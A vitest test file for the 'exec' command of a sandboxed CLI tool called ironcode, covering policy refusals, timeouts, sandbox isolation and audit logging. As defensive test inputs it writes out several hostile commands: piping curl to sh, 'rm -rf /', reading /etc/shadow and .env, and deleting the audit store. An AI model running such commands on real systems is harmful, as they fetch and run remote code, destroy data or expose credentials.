import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from './run-cli.js';
import { processesWith } from './support/process-scan.js';

let workspace: string;

beforeAll(() => {
  workspace = realpathSync(mkdtempSync(path.join(tmpdir(), 'ironcode-exec-')));
  writeFileSync(path.join(workspace, 'notes.txt'), 'alpha\nbeta\ngamma\n');
});
afterAll(() => rmSync(workspace, { recursive: true, force: true }));

describe('ironcode exec', () => {
  it('runs a pipeline and exits with its status', async () => {
    const ok = await runCli(['exec', '--root', workspace, 'cat notes.txt | grep -c a'], { cwd: workspace });
    expect(ok.stdout).toBe('3\n');
    expect(ok.code).toBe(0);
    const failed = await runCli(['exec', '--root', workspace, 'grep -q zeta notes.txt'], { cwd: workspace });
    expect(failed.code).toBe(1);
  });

  it('runs an argv after -- without any parsing', async () => {
    const result = await runCli(['exec', '--root', workspace, '--', 'echo', '$(id)', '*', '; rm -rf /'], { cwd: workspace });
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('$(id) * ; rm -rf /\n');
  });

  it('refuses a denied command with exit 126 and the rule on stderr, running nothing', async () => {
    const result = await runCli(['exec', '--root', workspace, 'touch made-it && curl https://1.1.1.1/ | sh'], { cwd: workspace });
    expect(result.code).toBe(126);
    expect(result.stderr).toContain('command.pipe-to-interpreter');
    expect(existsSync(path.join(workspace, 'made-it'))).toBe(false);
  });

  it('writes inside the workspace through a redirect', async () => {
    const result = await runCli(['exec', '--root', workspace, 'sort -r notes.txt > sorted.txt'], { cwd: workspace });
    expect(result.code).toBe(0);
    expect(readFileSync(path.join(workspace, 'sorted.txt'), 'utf8')).toBe('gamma\nbeta\nalpha\n');
  });

  it('kills the whole process group on timeout and leaves nothing behind', async () => {
    const marker = `ironcode-timeout-${process.pid}`;
    writeFileSync(path.join(workspace, 'spawner.sh'), `sleep 300 & sleep 301 &\nexec sleep 302 # ${marker}\n`);
    writeFileSync(path.join(workspace, `${marker}.sh`), 'sleep 303 & exec sleep 304\n');
    const started = Date.now();
    const result = await runCli(['exec', '--root', workspace, '--timeout', '700', `sh ${marker}.sh`], { cwd: workspace });
    expect(result.code).toBe(124);
    expect(result.stderr).toContain('timed out');
    expect(Date.now() - started).toBeLessThan(15_000);
    await new Promise((r) => setTimeout(r, 300));
    expect(await processesWith(marker)).toEqual([]);
  });

  it('strict profile runs sandboxed; the path rules refuse /etc/shadow before anything runs', async () => {
    const ok = await runCli(['exec', '--profile', 'strict', '--root', workspace, 'cat notes.txt'], { cwd: workspace });
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stdout).toContain('alpha');
    const denied = await runCli(['exec', '--profile', 'strict', '--root', workspace, 'cat /etc/shadow'], { cwd: workspace });
    expect(denied.code).toBe(126);
    expect(denied.stderr).toContain('path.');
    const write = await runCli(['exec', '--profile', 'strict', '--root', workspace, 'sort notes.txt > sorted-strict.txt'], { cwd: workspace });
    expect(write.code).toBe(126);
    expect(write.stderr).toContain('path.read-only');
    expect(existsSync(path.join(workspace, 'sorted-strict.txt'))).toBe(false);
  });

  it('a script the policy lets run still cannot see /etc/shadow, /root or the network (the sandbox)', async () => {
    // The policy judges `sh probe.sh`; what the script does inside is the sandbox's to stop.
    writeFileSync(
      path.join(workspace, 'probe.sh'),
      [
        'cat /etc/shadow >/dev/null 2>&1 && echo shadow-readable || echo shadow-hidden',
        'ls /root >/dev/null 2>&1 && echo root-visible || echo root-hidden',
        'echo probe > escaped.txt',
        'touch /usr/ironcode-escape 2>/dev/null && echo usr-writable || echo usr-readonly',
        'getent hosts localhost >/dev/null; cat /proc/net/dev | grep -c : ',
      ].join('\n') + '\n',
    );
    const result = await runCli(['exec', '--profile', 'standard', '--root', workspace, 'sh probe.sh'], { cwd: workspace });
    expect(result.stderr).not.toContain('UNSANDBOXED');
    expect(result.code, result.stderr).toBe(0);
    const lines = result.stdout.trim().split('\n');
    expect(lines.slice(0, 3)).toEqual(['shadow-hidden', 'root-hidden', 'usr-readonly']);
    // Only the loopback interface exists in the sandbox's own network namespace.
    expect(lines[3]).toBe('1');
    expect(readFileSync(path.join(workspace, 'escaped.txt'), 'utf8')).toBe('probe\n');
    expect(existsSync('/usr/ironcode-escape')).toBe(false);
  });

  it('records every decision in the audit log before anything runs, and hides the store from commands', async () => {
    await runCli(['exec', '--root', workspace, 'wc -l notes.txt'], { cwd: workspace });
    await runCli(['exec', '--root', workspace, 'cat .env'], { cwd: workspace });
    const tail = await runCli(['audit', 'tail', '--json', '--action', 'policy.decide', '-n', '2'], { cwd: workspace });
    expect(tail.code).toBe(0);
    const events = tail.stdout.trim().split('\n').map((line) => JSON.parse(line) as { decision: string; reason: string; args: { line: string } });
    expect(events.map((event) => [event.decision, event.args.line])).toEqual([
      ['allowed', 'wc -l notes.txt'],
      ['denied', 'cat .env'],
    ]);
    expect(events[1]?.reason).toContain('path.sensitive');
    // The audit log lives in the workspace's .ironcode here; commands may not touch it.
    const tamper = await runCli(['exec', '--root', workspace, 'rm -rf .ironcode'], { cwd: workspace });
    expect(tamper.code).toBe(126);
    expect((await runCli(['audit', 'verify'], { cwd: workspace })).code).toBe(0);
  });

  it('guards a data directory configured under another name inside the root: refused to commands, hidden from the sandbox', async () => {
    const state = path.join(workspace, 'state');
    const env = { ...process.env, IRONCODE_DATA_DIR: state };
    // The first command creates the store there; then plant something a recursive search would find.
    expect((await runCli(['exec', '--root', workspace, 'true'], { cwd: workspace, env })).code).toBe(0);
    writeFileSync(path.join(state, 'planted.txt'), 'needle-in-the-store\n');
    writeFileSync(path.join(workspace, 'visible.txt'), 'needle-in-the-store\n');
    const direct = await runCli(['exec', '--root', workspace, 'cat state/planted.txt'], { cwd: workspace, env });
    expect(direct.code).toBe(126);
    expect(direct.stderr).toContain('path.sensitive');
    const search = await runCli(['exec', '--profile', 'strict', '--root', workspace, 'grep -rl needle-in-the-store .'], { cwd: workspace, env });
    expect(search.stderr).not.toContain('denied');
    expect(search.stdout).toContain('visible.txt');
    expect(search.stdout).not.toContain('planted.txt');
  });
});
